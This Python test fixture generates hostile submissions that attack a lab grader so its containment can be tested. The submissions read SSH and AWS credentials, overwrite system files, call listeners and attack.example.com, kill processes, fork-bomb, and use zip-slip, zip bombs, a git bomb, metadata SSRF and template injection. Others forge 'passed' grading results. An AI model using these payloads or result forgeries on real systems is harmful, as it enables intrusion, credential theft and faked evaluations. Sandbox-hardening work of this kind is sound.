"""Submissions of day05 that attack the grader, each in one way, and what they are after.

A handler says ``I AM <name>`` in its log before it tries, and ``GOT <what> [...]`` with what it came to, so that a test
sees that the attack was made and what it brought. What ends by itself is tried by one submission, to save time.
Templates attack without a handler's help, or with one that calls what the template made.
"""

import io
import os
import stat
import subprocess
import tempfile
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

from fixtures.submissions.make import (
    CODE,
    DAY,
    hostile_archives,
    solution_entries,
    write_good,
    write_own_tests,
    write_template,
)

__all__ = ["ENDLESS", "EXPLORERS", "NAMES_OF_RESULTS", "REFUSED", "UNREAD", "Prey", "write_attackers", "write_bundles"]

YEAR_39996 = 1_200_000_000_000  # seconds since 1970

HEAD = "import glob, json, os, socket, sys, urllib.request, urllib.error\n"
HANDLER = "def handler(event, context):\n    print('I AM {name}', flush=True)\n    {calls}\n"
CALL = "print('GOT {what}', list({what}()), flush=True)"


@dataclass(frozen=True)
class Prey:
    """What is to be read, written and reached.

    Args:
        secrets: files that hold the marker.
        places: directories of the grader and of others.
        canary: a file that must stay as it is.
        doors: (host, port) of a listener that nobody may reach.
        ran: file that appears when code of a submission ran outside.
    """

    secrets: list[str]
    places: list[str]
    canary: str
    doors: list[tuple[str, int]]
    ran: Path

    @property
    def url(self) -> str:
        """Of the listener."""
        host, port = self.doors[0]
        return f"http://{host}:{port}/"


EXPLORERS: dict[str, Callable[[Prey], str]] = {
    "read": lambda prey: (
        "def read():\n"
        f"    paths = {prey.secrets!r}\n"
        "    paths += [os.path.expanduser(path) for path in ('~/.ssh/id_rsa', '~/.aws/credentials')]\n"
        f"    for place in {prey.places!r} + ['/tmp/daylab-grading-*', '/proc/*/root/tmp/daylab-grading-*', '/root']:\n"
        "        paths += glob.glob(place + '/**', recursive=True, include_hidden=True)\n"
        "    for path in paths:\n"
        "        try: yield open(path).read()\n"
        "        except OSError: pass\n"
    ),
    "write": lambda prey: (
        "def write():\n"
        f"    for place in {prey.places!r}: paths.append(place + '/written')\n"
        "    for path in paths:\n"
        "        try: open(path, 'w').write('changed'); yield path\n"
        "        except OSError: pass\n"
        f"paths = [{prey.canary!r}, '/var/task/handler.py', '/var/runtime/bootstrap', '/etc/passwd', '/written']\n"
    ),
    "call": lambda prey: (
        "def call():\n"
        f"    for door in {prey.doors!r} + [('192.0.2.1', 443)]:\n"
        "        try: socket.create_connection(door, 1).close(); yield door\n"
        "        except OSError: pass\n"
        "    try: yield socket.getaddrinfo('attack.example.com', 80)\n"
        "    except OSError: pass\n"
    ),
    "steer": lambda prey: (
        "import boto3\n"
        "from botocore.exceptions import ClientError\n"
        "def steer():\n"
        "    end = json.dumps({'action': 'kill'}).encode()\n"
        "    for path in ('/_daylab/info', '/_daylab/decisions', '/_daylab/mailbox', '/_localstack/state'):\n"
        "        yield from ask(path, None)\n"
        "    for path in ('shutdown', 'role-session', 'time-scale'):\n"
        "        yield from ask('/_daylab/' + path, end)\n"
        "    yield from ask('/_localstack/health', end)\n"
        "    for account in ('000000000000', context_account()):\n"
        "        try: yield boto3.client('sts', aws_access_key_id=account, aws_secret_access_key=account,\n"
        "                                aws_session_token='').get_caller_identity()['Arn']\n"
        "        except ClientError: pass\n"
        "def context_account():\n"
        "    return boto3.client('sts').get_caller_identity()['Account']\n"
        "def ask(path, body):\n"
        "    try: yield urllib.request.urlopen(os.environ['AWS_ENDPOINT_URL'] + path, body).read()\n"
        "    except urllib.error.HTTPError: pass\n"
    ),
    "kill": lambda prey: (
        "import signal\n"
        "def kill():\n"
        "    for number in (signal.SIGTERM, signal.SIGKILL):\n"
        "        for target in [*range(2, 5000), -1]:\n"
        "            if target == os.getpid(): continue\n"
        "            try: os.kill(target, number); yield target\n"
        "            except OSError: pass\n"
    ),
}
"""Name of a function → its code; what it yields is what it got."""

ENDLESS = {
    # A crowd gives way to everybody else, so that on a busy machine its end may come after the checks'.
    "forker": (
        "def attempt():\n    while True:\n        try: os.fork()\n        except OSError: pass\n",
        "timed out|killed|^$",
    ),
    "spinner": ("def attempt():\n    while True: pass\n", "timed out"),
    "hoarder": (
        "def attempt():\n    hoard = []\n    while True: hoard.append(b'x' * 16_000_000)\n",
        "Runtime.OutOfMemory|signal: killed|MemoryError",
    ),
    "filler": (
        "def attempt():\n    for number in range(10**6): open(f'/tmp/{number}', 'wb').write(bytes(8_000_000))\n",
        "Runtime.ExitError|No space|too large",
    ),
}
"""Name → code of a handler that would never end, and what its log says of its end (a regular expression)."""

REFUSED = {
    "linked": "leads out of the submission",
    "zip-slip": "leads out of the submission",
    "zip-absolute": "leads out of the submission",
    "zip-link": "is a link",
    "zip-bomb": "times its size",
    "packed-link": "Could not unzip uploaded file|leads out of it",
    "included": "Transform|Include",
    "nested": "ROLLBACK_COMPLETE",
}
"""Name → why it is not deployed (a regular expression)."""

UNREAD = {
    "git-bomb": "more than 2000 files",
    "rar": "a RAR archive",
    "empty": "the file is empty",
    "elsewhere": "no work for day05",
}
"""Name → why there is nothing that could be graded (a regular expression)."""

NAMES_OF_RESULTS = ("grades.csv", "class.html")
"""Names of honest submissions that files of the results have as well."""

DOOR = """
  {name}:
    Type: AWS::ApiGateway::RestApi
    Properties: {{Name: door}}
  {name}Method:
    Type: AWS::ApiGateway::Method
    Properties:
      RestApiId: !Ref {name}
      ResourceId: !GetAtt {name}.RootResourceId
      HttpMethod: GET
      AuthorizationType: NONE
      Integration:
        Type: MOCK
        RequestTemplates: {{application/json: '{{"statusCode": 302}}'}}
        IntegrationResponses:
          - StatusCode: "302"
            ResponseParameters: {{method.response.header.Location: "'{to}'"}}
      MethodResponses: [{{StatusCode: "302", ResponseParameters: {{method.response.header.Location: true}}}}]
  {name}Deployment:
    Type: AWS::ApiGateway::Deployment
    DependsOn: {name}Method
    Properties: {{RestApiId: !Ref {name}, StageName: live}}
"""
"""An API that sends everybody who comes to another address."""

API = """
  Api:
    Type: AWS::ApiGateway::RestApi
    Properties: {{Name: attack}}
  Method:
    Type: AWS::ApiGateway::Method
    Properties:
      RestApiId: !Ref Api
      ResourceId: !GetAtt Api.RootResourceId
      HttpMethod: GET
      AuthorizationType: NONE
      Integration:
        {integration}
        IntegrationHttpMethod: GET
        RequestTemplates: {{application/json: '{{"statusCode": 200}}'}}
        IntegrationResponses:
          - StatusCode: "200"
            ResponseTemplates: {{application/json: {template!r}}}
      MethodResponses: [{{StatusCode: "200"}}]
  Deployment:
    Type: AWS::ApiGateway::Deployment
    DependsOn: Method
    Properties: {{RestApiId: !Ref Api, StageName: live}}
"""
CALLS_API = (
    "def ask():\n"
    "    url = os.environ['AWS_ENDPOINT_URL'] + f\"/_aws/execute-api/{os.environ['API']}/live/\"\n"
    "    try: yield urllib.request.urlopen(url, timeout=20).read().decode()\n"
    "    except urllib.error.HTTPError as refused: print('STATUS', refused.code)\n"
)


def write_attackers(target: Path, prey: Prey) -> None:
    """Write all of them below ``target``."""
    code = "".join(each(prey) for each in EXPLORERS.values())
    _write_code(target / "explorer" / DAY, "explorer", code, EXPLORERS)
    for name, (code, _) in ENDLESS.items():
        _write_code(target / name / DAY, name, code, ["attempt"])
        _change(target / name / DAY, lambda text: text.replace("Timeout: 30", "Timeout: 4"))
    for name, content in hostile_archives().items():
        (target / f"{name}.zip").write_bytes(content)
    _write_forger(target / "forger", prey)
    _write_templates(target, prey)
    _write_packed(target / "packed-link" / DAY, "canary", prey.canary)
    for name in NAMES_OF_RESULTS:
        write_good(target / name / DAY)
    (target / "elsewhere").mkdir()
    (target / "elsewhere" / "notes.txt").write_text("I did not begin")
    (target / "rar.rar").write_bytes(b"Rar!\x1a\x07\x00")
    (target / "empty.zip").write_bytes(b"")
    write_bundles(target)
    _write_doors(target / "doors" / DAY, prey)
    lines = "('/a' * 15000, '1.' * 15000, 'ASIA' * 7500 + '_', '\\x1b]0;title\\x07\\x1b[31m' + '/tmp/a/' * 4000)"
    code = f"def shout():\n    for line in {lines} * 5: print(line)\n    return []\n"
    _write_code(target / "noisy" / DAY, "noisy", code, ["shout"])


def write_bundles(target: Path) -> None:
    """A repository of 10^10 files in a thousand bytes, and an honest one whose commit is of the year 39996."""
    with tempfile.TemporaryDirectory() as name:
        place = Path(name)

        def git(*arguments: str, given: str = "", **environ: str) -> str:
            who = ["-c", "user.name=x", "-c", "user.email=x@example.com", "-c", "init.defaultBranch=main"]
            done = subprocess.run(
                ["git", "-C", name, *who, *arguments],
                input=given.encode(), capture_output=True, check=True, env={**os.environ, **environ},
            )  # fmt: skip
            return done.stdout.decode().strip()

        git("init")
        tree, mode, kind = git("hash-object", "-w", "--stdin"), "100644", "blob"
        for _ in range(10):
            tree = git("mktree", given="".join(f"{mode} {kind} {tree}\t{number}\n" for number in range(10)))
            mode, kind = "040000", "tree"
        git("update-ref", "refs/heads/bomb", git("commit-tree", tree, "-m", "bomb"))
        git("bundle", "create", str(target.resolve() / "git-bomb.bundle"), "bomb")
        write_good(place / DAY)
        git("add", "-A")
        when = f"@{YEAR_39996} +0000"
        git("commit", "-m", "work", GIT_AUTHOR_DATE=when, GIT_COMMITTER_DATE=when)
        git("bundle", "create", str(target.resolve() / "year.bundle"), "main")


def _write_doors(target: Path, prey: Prey) -> None:
    """Outputs that lead a check to a listener and to the engine's own paths, and APIs that redirect it there."""
    doors = {
        "DoorListener": prey.url,
        "DoorPath": "/_daylab/decisions",
        "DoorWritten": "/live/..//%5Fdaylab/info",
        "DoorMetadata": "http://169.254.169.254/latest/meta-data/",
        "DoorAway": "!Sub '/_aws/execute-api/${Away}/live/'",
        "DoorOwn": "!Sub '/_aws/execute-api/${Own}/live/'",
    }
    apis = DOOR.format(name="Away", to=prey.url) + DOOR.format(name="Own", to="/_daylab/decisions")
    outputs = "".join(f"  {name}:\n    Value: {to if to.startswith('!') else repr(to)}\n" for name, to in doors.items())
    write_template(target, lambda text: text.replace("\nOutputs:\n", f"{apis}\nOutputs:\n{outputs}", 1))


def _write_code(target: Path, name: str, code: str, functions: Iterable[str]) -> None:
    if not target.exists():
        write_good(target)
    calls = "; ".join(CALL.format(what=what) for what in functions)
    (target / CODE).write_text(HEAD + code + HANDLER.format(name=name, calls=calls), encoding="utf-8")


def _change(target: Path, change: Callable[[str], str]) -> None:
    path = target / "template.yaml"
    path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")


def _write_forger(target: Path, prey: Prey) -> None:
    """Tests, settings, modules and records of its own, and a handler that says what results look like."""
    write_own_tests(target / DAY, prey.ran)
    # So that the handler runs and its log is read.
    (target / DAY / "template.yaml").write_bytes(solution_entries()[f"{DAY}/template.yaml"])
    code = f"import pathlib\npathlib.Path({str(prey.ran)!r}).write_text('module')\n"
    for package in ("harness", "boto3", "pytest"):
        for root in (target, target / DAY):
            (root / package).mkdir()
            (root / package / "__init__.py").write_text(code)
    passed = '{"schema": 1, "checks": [{"lab": "day05", "name": "upload_is_logged", "outcome": "passed"}]}'
    for name in ("work/.daylab/progress.json", ".records/forger/day05.json", "results.json", "result.json"):
        for root in (target, target / DAY):
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            (root / name).write_text(passed)
    forged = f"def forge():\n    print({passed!r})\n    print('8 passed', 'PASSED [100%]')\n    return []\n"
    _write_code(target / DAY, "forger", forged, ["forge"])


def _write_templates(target: Path, prey: Prey) -> None:
    def with_resources(name: str, added: str) -> None:
        write_template(target / name / DAY, lambda text: text.replace("\nOutputs:", f"{added}\nOutputs:", 1))

    def calls_api(name: str, added: str) -> None:
        with_resources(name, added)
        _write_code(target / name / DAY, name, CALLS_API, ["ask"])
        variables = "Variables:\n          API: !Ref Api\n"
        _change(target / name / DAY, lambda text: text.replace("Variables:\n", variables, 1))

    secret = prey.secrets[0]
    write_good(target / "linked" / DAY)
    (target / "linked" / DAY / CODE.parent / "secret").symlink_to(secret)
    include = f"Fn::Transform: {{Name: AWS::Include, Parameters: {{Location: 'file://{secret}'}}}}"
    with_resources("included", f"\n  Included:\n    Type: AWS::SNS::Topic\n    Properties:\n      {include}\n")
    nested = f"Type: AWS::CloudFormation::Stack\n    Properties: {{TemplateURL: '{prey.url}nested.yaml'}}\n"
    with_resources("nested", f"\n  Nested:\n    {nested}")
    topic = "  Topic: {Type: AWS::SNS::Topic}\n  Subscription:\n    Type: AWS::SNS::Subscription\n    Properties: "
    topic += f"{{TopicArn: !Ref Topic, Protocol: http, Endpoint: '{prey.url}subscription'}}\n"
    integration = f"Type: HTTP\n        Uri: {prey.url}integration"
    calls_api("forwarder", API.format(integration=integration, template="$input.body") + topic)
    velocity = (
        "#set($b = $util.urlEncode.__func__.__globals__.get('__builtins__'))"
        f"#set($open = $b.get('open'))VELOCITY[$open('{secret}').read()]"
    )
    calls_api("velocity", API.format(integration="Type: MOCK", template=velocity).replace("\\'", "''"))


def _write_packed(target: Path, link: str, to: str) -> None:
    """The solution with its code in an archive that holds a link as well."""
    write_template(target, lambda text: text.replace("functions/file_processor", "functions/packed.zip"))
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.write(target / CODE, CODE.name)
        entry = zipfile.ZipInfo(link)
        entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, to)
    (target / "functions/packed.zip").write_bytes(content.getvalue())
